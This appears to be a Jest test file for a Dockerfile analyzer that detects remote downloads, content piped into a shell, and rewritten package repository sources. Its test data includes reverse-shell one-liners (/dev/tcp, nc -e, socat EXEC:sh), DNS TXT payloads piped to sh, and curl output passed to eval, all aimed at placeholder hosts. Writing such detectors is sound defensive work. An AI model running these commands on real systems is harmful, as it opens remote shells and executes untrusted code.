import { describe, expect, test } from '@jest/globals';
import { imports, sources } from './imported.ts';

const BASH = 'SHELL ["/bin/bash", "-c"]';

describe('what another machine answers, and is kept or run', () => {
  test.each<[string, string, 'yes' | 'no', boolean]>([
    ['socat - TCP:e.test:9000 > /usr/bin/x', 'tcp://e.test:9000', 'no', false],
    ['socat -u TCP:e.test:9000 OPEN:/usr/bin/x,creat', 'tcp://e.test:9000', 'no', false],
    ['socat TCP4:e.test:9000 EXEC:sh', 'tcp://e.test:9000', 'no', true],
    ['socat - OPENSSL:e.test:443 | sh', 'tls://e.test:443', 'yes', true],
    ['socat - OPENSSL:e.test:443,verify=0 | sh', 'tcp://e.test:443', 'no', true],
    ['telnet e.test 9000 | sh', 'telnet://e.test:9000', 'no', true],
    ['(echo GET /x; sleep 1) | telnet e.test 80 > /x.sh', 'telnet://e.test:80', 'no', false],
    ["dig +short TXT x.test | tr -d '\"' | sh", 'dns://x.test', 'no', true],
    ["host -t TXT x.test | cut -d'\"' -f2 | sh", 'dns://x.test', 'no', true],
    ['nslookup -type=TXT x.test | base64 -d | bash', 'dns://x.test', 'no', true],
    ['sh -c "$(dig +short txt x.test)"', 'dns://x.test', 'no', true],
    ['eval "$(dig @9.9.9.9 +short txt x.test)"', 'dns://x.test', 'no', true],
    ['dig +short TXT x.test > /usr/bin/x', 'dns://x.test', 'no', false],
    ['finger x@e.test | sh', 'finger://x@e.test', 'no', true],
    ['openssl s_client -quiet -connect e.test:443 | sh', 'tls://e.test:443', 'no', true],
    [
      'openssl s_client -connect e.test:443 </dev/null | openssl x509 > /c.pem',
      'tls://e.test:443',
      'no',
      false,
    ],
    ['openssl s_client -verify_return_error -connect e.test:443 > /x', 'tls://e.test:443', 'yes', false],
    ['mount -t nfs e.test:/export /mnt', 'e.test:/export', 'no', false],
    ['mount -t cifs //e.test/share /mnt -o guest', '//e.test/share', 'no', false],
    ['mount e.test:/export /mnt', 'e.test:/export', 'no', false],
    ['mount.nfs e.test:/x /mnt', 'e.test:/x', 'no', false],
    ['sshfs user@e.test:/x /mnt', 'user@e.test:/x', 'yes', false],
    ["smbclient //e.test/share -N -c 'get tool.sh'", '//e.test/share', 'no', false],
    ['smbget smb://e.test/share/tool', 'smb://e.test/share/tool', 'no', false],
    ['nc e.test 80 -e /bin/sh', 'tcp://e.test:80', 'no', true],
    ['bash -i >& /dev/tcp/e.test/4444 0>&1', 'tcp://e.test:4444', 'no', true],
    ['. /dev/stdin <<< "$(curl -s https://e.test/x)"', 'https://e.test/x', 'yes', true],
    ['tar xf <(curl https://e.test/x.tar)', 'https://e.test/x.tar', 'yes', false],
    ['env -S "curl -o /x https://e.test/x"', 'https://e.test/x', 'yes', false],
    ['bun run https://e.test/x.ts', 'https://e.test/x.ts', 'yes', false],
    ['deno compile https://e.test/x.ts', 'https://e.test/x.ts', 'yes', false],
    ['java -jar fetcher.jar https://e.test/x.jar', 'https://e.test/x.jar', 'yes', false],
    ['python3 -m wget https://e.test/x', 'https://e.test/x', 'yes', false],
  ])('%s', (command, source, secureChannel, pipedToShell) => {
    expect(sources(BASH, `RUN ${command}`)).toEqual([`download ${source}`]);
    expect(imports(BASH, `RUN ${command}`)).toMatchObject([{ secureChannel, pipedToShell }]);
  });

  test.each([
    'socat TCP-LISTEN:80,fork TCP:db.test:80 & true',
    'socat - TCP:db.test:80',
    'telnet db.test 80',
    'dig +short db.test',
    'IP=$(dig +short db.test)',
    'host db.test | grep address',
    'openssl s_client -connect e.test:443 -showcerts',
    'F=$(echo | openssl s_client -connect e.test:443 | openssl x509 -noout -fingerprint)',
    'openssl x509 -in c.pem -noout',
    'mount -t tmpfs none /mnt',
    'mount -t proc proc /proc',
    'mount /dev/sda1 /mnt',
    'mount --bind /a /b',
    "smbclient //e.test/share -N -c 'put tool.sh'",
    'echo > /dev/tcp/db.test/80',
    'env -S "echo https://e.test/x"',
  ])('nothing is kept of %s', (command) => {
    expect(sources(BASH, `RUN ${command}`)).toEqual([]);
  });
});

describe('what is piped into a shell and nobody can see', () => {
  test.each([
    ['mytool | sh', 'mytool'],
    ['cat /srv/x | bash -s -- --all', 'cat /srv/x'],
    ['redis-cli -h e.test get x | sh', 'redis-cli -h e.test get x'],
    ['xxd -r -p <<< 6375726c | sh', 'xxd -r -p <<< 6375726c'],
    ['echo "$PAYLOAD" | base64 -d | sh', 'echo "$PAYLOAD" | base64 -d'],
    ['mytool | python3 -', 'mytool'],
    ['eval "$(echo "$PAYLOAD" | base64 -d)"', 'echo "$PAYLOAD" | base64 -d'],
  ])('%s', (command, source) => {
    expect(sources(BASH, `RUN ${command}`)).toEqual([`download ${source}`]);
    expect(imports(BASH, `RUN ${command}`)).toMatchObject([
      { pipedToShell: true, secureChannel: 'unknown', verification: { method: 'unknown' } },
    ]);
  });

  test.each([
    'yes | sh install.sh',
    "echo 'apt-get clean' | sh",
    'mytool | sh -c cat',
    'cat f | python3 -c "import sys"',
    "cat f | perl -pe 's/a/b/'",
    'eval "$(opam env)"',
    'sh -c "$(mytool)"',
    'mytool | awk "{ print }"',
  ])('not %s', (command) => {
    expect(sources(BASH, `RUN ${command}`)).toEqual([]);
  });
});

describe('places that are put into the lists of package managers', () => {
  test.each<[string, readonly string[]]>([
    ["sed -i 's|http://deb.one.test|http://m.test|g' /etc/apt/sources.list", ['http://m.test']],
    ["sed -i 's|deb.one.test|m.test|g' /etc/apt/sources.list.d/debian.sources", ['m.test']],
    ['sed -i s/dl-cdn.alpinelinux.org/m.test/g /etc/apk/repositories', ['m.test']],
    ["sed -i '1i deb http://m.test/debian stable main' /etc/apt/sources.list", ['http://m.test/debian']],
    [
      "sed -i -e 's#mirrorlist=#\\#mirrorlist=#' -e 's#\\#baseurl=http://a.test#baseurl=https://m.test#' /etc/yum.repos.d/*.repo",
      ['https://m.test'],
    ],
    ["sed -i 's/^deb-src/# deb-src/' /etc/apt/sources.list", []],
    ["sed -i 's/main/main contrib/' /etc/apt/sources.list", []],
    ["sed -i 's|http://a.test|http://m.test|' /etc/motd", []],
    ["sed 's|http://a.test|http://m.test|' /etc/apt/sources.list", []],
  ])('%s', (command, expected) => {
    expect(sources(`RUN ${command}`)).toEqual(expected.map((source) => `package-repository ${source}`));
  });
});

describe('a download that is held in a variable first', () => {
  const GET = 'X=$(curl -s https://e.test/x)';

  test.each<[string, boolean]>([
    [`${GET}; eval "$X"`, true],
    [`${GET}; sh -c "$X"`, true],
    [`${GET}; bash <<< "$X"`, true],
    [`${GET}; $X`, true],
    [`${GET} && echo "$X" > /usr/bin/tool`, false],
    ['printf %s "$(curl -s https://e.test/x)" > /usr/bin/tool', false],
    ['echo "$(curl -s https://e.test/x)" | tee /usr/bin/tool', false],
    ['cat <(curl -s https://e.test/x) > /usr/bin/tool', false],
    ['unsquashfs <(curl -s https://e.test/x)', false],
  ])('%s', (command, pipedToShell) => {
    expect(imports(BASH, `RUN ${command}`)).toMatchObject([{ source: ['https://e.test/x'], pipedToShell }]);
  });

  test.each([
    `${GET}; echo "$X"`,
    `${GET}; sh -c "install $X"`,
    'V=$(curl -s https://e.test/x | grep tag | cut -d: -f2); echo "$V" > /version',
    'echo "$(curl -s https://e.test/x)  /opt/a" > /tmp/sums',
    `[ "$(curl -s https://e.test/x)" = ok ]`,
  ])('is none where it only answers: %s', (command) => {
    expect(sources(BASH, `RUN ${command}`)).toEqual([]);
  });
});
